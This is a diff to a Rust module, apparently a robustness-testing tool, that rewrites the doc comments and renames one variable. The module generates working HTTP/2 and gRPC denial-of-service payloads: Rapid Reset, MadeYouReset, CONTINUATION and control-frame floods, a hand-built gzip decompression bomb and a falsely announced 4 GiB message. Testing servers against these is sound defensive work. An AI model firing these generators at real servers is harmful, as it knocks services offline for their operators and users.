@@ -1,28 +1,28 @@
-//! What an attacker sends on one connection after the other, without ever reading.
+//! What an attacker sends on one connection after the other, without ever reading the responses.
 
 use std::sync::LazyLock;
 
 use super::frame::{self, call, header, headers_of_a_call};
 
-/// What is sent for the `round`th time on a connection; streams have odd numbers that only grow.
+/// Returns the bytes that are sent in round `round` on a connection. Streams have increasing odd numbers.
 pub type Attack = fn(round: u32) -> Vec<u8>;
 
-/// CVE-2023-44487: a call that is given up at once.
+/// CVE-2023-44487: a call that the client resets at once.
 pub fn rapid_reset(round: u32) -> Vec<u8> {
     let stream = 2 * round + 1;
     [call(stream, frame::END_STREAM), frame::bytes(frame::RST_STREAM, 0, stream, &8_u32.to_be_bytes())]
         .concat()
 }
 
-/// CVE-2025-8671, "MadeYouReset": a call followed by a fault for which the server must reset it, and may keep the connection: a
-/// window larger than any may be (RFC 9113, section 6.9.1).
+/// CVE-2025-8671, "MadeYouReset": a call followed by an error for which the server must reset the stream but
+/// may keep the connection: a window that exceeds the maximum (RFC 9113, section 6.9.1).
 pub fn local_reset(round: u32) -> Vec<u8> {
     const WINDOW_MAX: u32 = 0x7fff_ffff;
     let stream = 2 * round + 1;
     [call(stream, 0), frame::bytes(frame::WINDOW_UPDATE, 0, stream, &WINDOW_MAX.to_be_bytes())].concat()
 }
 
-/// CVE-2024-27316 and its kin: headers that never end.
+/// CVE-2024-27316 and similar ones: a header block that never ends.
 pub fn endless_continuation(round: u32) -> Vec<u8> {
     let field = header("x", &"y".repeat(100));
     if round == 0 {
@@ -31,46 +31,46 @@ pub fn endless_continuation(round: u32) -> Vec<u8> {
     frame::bytes(frame::CONTINUATION, 0, 1, &field.repeat(100))
 }
 
-/// Headers that end, and are far longer than any may be.
+/// A complete header block that is far longer than the limit.
 pub fn huge_headers(round: u32) -> Vec<u8> {
     let field = header("x", &"y".repeat(100));
     let block = [headers_of_a_call(), field.repeat(150)].concat();
     let stream = 2 * round + 1;
     let begin = frame::bytes(frame::HEADERS, frame::END_STREAM, stream, &block);
-    let go_on = frame::bytes(frame::CONTINUATION, 0, stream, &field.repeat(150));
+    let middle = frame::bytes(frame::CONTINUATION, 0, stream, &field.repeat(150));
     let end = frame::bytes(frame::CONTINUATION, frame::END_HEADERS, stream, &[]);
-    [begin, go_on, end].concat()
+    [begin, middle, end].concat()
 }
 
-/// CVE-2019-9515: each wants an acknowledgement that is never read.
+/// CVE-2019-9515: SETTINGS frames whose acknowledgements are never read.
 pub fn settings_flood(_: u32) -> Vec<u8> {
     frame::bytes(frame::SETTINGS, 0, 0, &[]).repeat(100)
 }
 
-/// CVE-2019-9512: each wants an answer that is never read.
+/// CVE-2019-9512: PING frames whose acknowledgements are never read.
 pub fn ping_flood(_: u32) -> Vec<u8> {
     frame::bytes(frame::PING, 0, 0, &[7; 8]).repeat(100)
 }
 
-/// CVE-2019-9518: frames that hold nothing.
+/// CVE-2019-9518: empty DATA frames.
 pub fn empty_data_flood(round: u32) -> Vec<u8> {
     let begin = if round == 0 { call(1, 0) } else { Vec::new() };
     [begin, frame::bytes(frame::DATA, 0, 1, &[]).repeat(100)].concat()
 }
 
-/// CVE-2019-9513: priorities of streams that never come.
+/// CVE-2019-9513: priorities of streams that are never opened.
 pub fn priority_flood(round: u32) -> Vec<u8> {
     frame::bytes(frame::PRIORITY, 0, 2 * round + 1, &[0, 0, 0, 0, 16]).repeat(100)
 }
 
-/// Calls whose bodies never come.
+/// Calls whose bodies are never sent.
 pub fn endless_bodies(round: u32) -> Vec<u8> {
     call(2 * round + 1, 0)
 }
 
-/// Bytes that are no frames.
+/// Bytes that are not frames.
 pub fn garbage(round: u32) -> Vec<u8> {
-    // xorshift: the same bytes each time.
+    // A xorshift generator: the same bytes in every run.
     let mut state = u64::from(round) * 0x9e37_79b9 + 1;
     let mut next = || {
         state ^= state << 13;
@@ -81,7 +81,7 @@ pub fn garbage(round: u32) -> Vec<u8> {
     (0..64).flat_map(|_| next()).collect()
 }
 
-/// A message of `frames` frames that says it is compressed so.
+/// Returns a call whose message is marked as compressed with `encoding`, in DATA frames of the maximum size.
 fn compressed(stream: u32, encoding: &str, message: &[u8]) -> Vec<u8> {
     let headers = [headers_of_a_call(), header("grpc-encoding", encoding)].concat();
     let length = u32::try_from(message.len()).unwrap().to_be_bytes();
@@ -94,16 +94,16 @@ fn compressed(stream: u32, encoding: &str, message: &[u8]) -> Vec<u8> {
     bytes
 }
 
-/// RFC 9113, section 4.2: what a peer takes that has not said otherwise.
+/// Default of SETTINGS_MAX_FRAME_SIZE (RFC 9113, section 4.2).
 const FRAME_BYTES_MAX: usize = 16_384;
 
-/// The longest message that the service reads.
+/// Maximum size of a message that the service accepts.
 const MESSAGE_BYTES_MAX: usize = 65_536;
 
 static BOMB: LazyLock<Vec<u8>> = LazyLock::new(bomb);
 
-/// As much gzip as a message may hold, of zeros without end: 10 MiB of them (RFC 1951, section 3.2.6: one literal, and from then on
-/// the longest match at the shortest distance in 13 bits).
+/// Returns a gzip stream of the maximum message size that expands to 10 MiB of zeros (RFC 1951, section
+/// 3.2.6: one literal, then the longest match at the shortest distance, again and again, in 13 bits each).
 fn bomb() -> Vec<u8> {
     let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
     let (mut bits, mut count) = (0_u64, 0);
@@ -116,7 +116,8 @@ fn bomb() -> Vec<u8> {
             count -= 8;
         }
     };
-    // The last block, with fixed codes; the literal 0; then 285 and the distance 0, most significant bit first.
+    // Header of the last block with fixed Huffman codes; the literal 0; then length code 285 and distance
+    // code 0. Huffman codes are written with their most significant bit first.
     put(&mut bytes, 0b011, 3);
     put(&mut bytes, 0b0000_1100, 8);
     while bytes.len() < MESSAGE_BYTES_MAX {
@@ -125,7 +126,7 @@ fn bomb() -> Vec<u8> {
     bytes
 }
 
-/// Messages that would be ten thousand times as long, if somebody took them out of their compression.
+/// A gzip bomb: 64 KiB that would expand to 10 MiB, marked in turn with each of five encodings.
 pub fn decompression_bombs(round: u32) -> Vec<u8> {
     let encodings = ["gzip", "deflate", "zstd", "br", "identity"];
     let encoding =
@@ -133,7 +134,7 @@ pub fn decompression_bombs(round: u32) -> Vec<u8> {
     compressed(2 * round + 1, encoding, &BOMB)
 }
 
-/// A message of 4 GiB is announced, and a byte of it sent.
+/// A message whose prefix announces 4 GiB, followed by one byte.
 pub fn announced_and_never_sent(round: u32) -> Vec<u8> {
     let stream = 2 * round + 1;
     [call(stream, 0), frame::bytes(frame::DATA, 0, stream, &[0, 0xff, 0xff, 0xff, 0xff, 0x0a])].concat()
